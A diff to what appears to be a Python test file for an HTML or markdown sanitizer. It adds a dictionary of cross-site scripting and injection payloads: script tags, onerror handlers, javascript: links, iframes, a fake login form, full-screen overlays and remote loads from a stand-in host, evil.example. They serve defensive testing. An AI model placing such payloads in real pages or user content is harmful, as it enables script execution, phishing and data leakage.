@@ -60,3 +60,22 @@ ATTACK = """<img src=x onerror="window.hacked=1"> <style>body{display:none}</sty
     ```
 <img src="https://evil.example/q.png">
 """
+
+# Each of these wants to run, load, style, cover or send something.
+HOSTILE = {
+    "script": "<script>window.hacked=1</script><script src=https://evil.example/x.js></script>",
+    "image": "<img src=x onerror=window.hacked=1> ![p](https://evil.example/p.png) ![](//evil.example/q.png)",
+    "reference-image": "![a][r]\n\n[r]: https://evil.example/r.png",
+    "style": "<style>*{display:none!important}</style><link rel=stylesheet href=https://evil.example/s.css>",
+    "form": "<form action=https://evil.example><input name=q value=1><button>Log in</button></form>",
+    "frame": "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><object data=https://evil.example></object>",
+    "svg": "<svg><image href=https://evil.example/i.png /><script>window.hacked=1</script></svg>",
+    "math": "$$\\href{javascript:window.hacked=1}{x} \\includegraphics{https://evil.example/m.png}$$ \\(\\url{javascript:1}\\)",
+    "template": "${window.hacked=1} {{window.hacked=2}} <%= window.hacked=3 %>",
+    "links": "[a](javascript:window.hacked=1) [b](data:text/html,<script>1</script>) [c](vbscript:x)",
+    "cover": "<div style='position:fixed;inset:0;z-index:99999;background:#f00'>x</div><a style='position:fixed;inset:0' href=https://evil.example>.</a>",
+    "media": "<video src=https://evil.example/v.mp4 autoplay></video><audio src=https://evil.example/a.mp3></audio><base href=https://evil.example/>",
+    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'><body onload=window.hacked=1>",
+    "mermaid": "```mermaid\ngraph TD\nA[<img src=x onerror=window.hacked=1>] --> B\nclick A \"javascript:window.hacked=1\"\n```",
+    "code": "```html\n<img src=https://evil.example/c.png onerror=window.hacked=1>\n```\n\n`<script>window.hacked=1</script>`",
+}  # fmt: skip
